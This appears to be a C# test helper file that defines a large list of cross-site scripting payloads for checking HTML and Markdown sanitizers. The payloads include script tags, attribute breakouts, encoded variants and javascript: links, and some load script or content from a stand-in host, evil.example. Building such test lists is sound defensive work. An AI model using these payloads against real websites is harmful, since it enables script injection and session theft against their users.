namespace Rodtrad.Tests.Shared;

/// <summary>Texts that try to become script, in the spirit of OWASP's list. Each calls a function that a test can watch.</summary>
public static class Payloads
{
    const string Call = "alert(1)";

    static readonly string[] Written =
    [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>", "<script/src=data:,alert(1)></script>",
        "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)//",
        "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</select><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>", "</a><script>alert(1)</script>", "</table><script>alert(1)</script>",
        "--><script>alert(1)</script>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
        "' autofocus onfocus=alert(1) x='", "x\" onclick=alert(1)//", "x' onclick=alert(1)//", "` onclick=alert(1)//", "\"/><svg/onload=alert(1)>",
        "\" style=\"background:url(javascript:alert(1))", "\" href=\"javascript:alert(1)", "\" formaction=\"javascript:alert(1)", "\" hx-get=\"//evil.example\" hx-trigger=\"load\" x=\"",
        "\" hx-on:load=\"alert(1)\" x=\"", "\" data-auto hx-get=\"//evil.example", "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cscript\\u003ealert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u017fcript>alert(1)</\u017fcript>",
        "\u2028<script>alert(1)</script>", "<img src=x\u00a0onerror=alert(1)>", "\u202e>tpircs/<)1(trela>tpircs<", "<img src=x onerror\u200b=alert(1)>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))", "[x]( javascript:alert(1))",
        "[x](<javascript:alert(1)>)", "[x](vbscript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))", "![x](x\"onerror=\"alert(1))", "![x\" onerror=\"alert(1)](x)", "[x](x \"t\" onclick=alert(1)\")", "[x](https://a.example/\"onclick=\"alert(1))",
        "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "<https://a.example/\" onclick=\"alert(1)>", "[<img src=x onerror=alert(1)>](https://a.example)", "```<script>alert(1)</script>```",
        "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "# <script>alert(1)</script>", "> <img src=x onerror=alert(1)>", "- <svg onload=alert(1)>", "[x](//evil.example)", "[x](\\\\evil.example)",
        "[x](javascript://a.example/%0aalert(1))", "[x](feed:javascript:alert(1))", "[x](file:///etc/passwd)", "[x](ht\ntps:alert(1))", "<a href=javascript:alert(1)>x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>", "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1) type=image>", "<base href=javascript:alert(1)//>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=import href=//evil.example>", "<style>@import 'javascript:alert(1)';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>", "<div style=\"width:expression(alert(1))\">", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xss style=behavior:url(x.htc)>", "<table background=javascript:alert(1)>", "<input type=image src=javascript:alert(1)>",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "@(alert(1))", "@{System.Diagnostics.Process.Start(\"x\");}", "<%= alert(1) %>", "#{alert(1)}", "';alert(1);//", "\";alert(1);//", "\\\";alert(1);//",
        "javascript:alert(1)", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "data:text/html,<script>alert(1)</script>",
    ];

    static readonly string[] Elements =
        ["img src=x", "svg", "body", "details open", "video", "audio src=x", "input autofocus", "marquee", "a href=#", "div tabindex=0"];

    static readonly string[] Events =
        ["onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbeforematch"];

    /// <summary>Every payload once.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Written, .. from element in Elements from happening in Events select $"<{element} {happening}={Call}>"];
}
